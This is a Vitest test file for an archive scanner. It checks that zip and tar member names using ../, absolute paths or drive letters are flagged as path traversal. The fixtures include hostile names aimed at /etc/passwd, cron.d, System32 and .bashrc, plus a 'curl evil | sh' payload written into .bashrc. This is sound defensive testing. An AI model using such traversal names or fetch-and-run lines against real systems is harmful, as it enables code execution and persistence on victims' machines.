import { describe, expect, it } from 'vitest';
import { DEFAULT_ARCHIVE_LIMITS } from '../limits.js';
import { buildTar, buildZip } from '../testing/index.js';
import { leavesExtractionDir } from './member-names.js';
import { SevenZipReader } from './seven-zip.js';
import { TarReader } from './tar.js';
import { ArchiveBudget } from './types.js';
import { ZipReader } from './zip.js';

const hostile = ['../evil.sh', 'docs/../../etc/cron.d/job', '/etc/passwd', '..\\..\\Windows\\System32\\evil.dll', 'C:\\Users\\Public\\run.exe', 'c:/temp/x'];
const harmless = ['report.pdf', 'docs/notes..txt', 'a/..b/c', '...', 'dir/'];

describe('archive member names', () => {
  it('leave the extraction directory with ../, an absolute path or a drive letter, in either slash', () => {
    for (const name of hostile) expect(leavesExtractionDir(name), name).toBe(true);
    for (const name of harmless) expect(leavesExtractionDir(name), name).toBe(false);
  });

  it('are flagged ARCHIVE_PATH_TRAVERSAL by the zip and tar readers, which still hand the member over to be scanned', async () => {
    const members = [
      { name: 'ok.txt', data: Buffer.from('fine') },
      { name: '../../.bashrc', data: Buffer.from('curl evil | sh') },
    ];
    const budget = (): ArchiveBudget => new ArchiveBudget(DEFAULT_ARCHIVE_LIMITS);
    const zip = await new ZipReader(new SevenZipReader('archive', 1000)).read(buildZip(members), budget(), []);
    const tar = await new TarReader().read(buildTar(members), budget());
    for (const expansion of [zip, tar]) {
      expect(expansion.issues).toEqual([{ symbol: 'ARCHIVE_PATH_TRAVERSAL', detail: 'member name "../../.bashrc"' }]);
      expect(expansion.members.map((m) => [m.name, m.content.toString()])).toEqual([
        ['ok.txt', 'fine'],
        ['../../.bashrc', 'curl evil | sh'],
      ]);
    }
  });
});
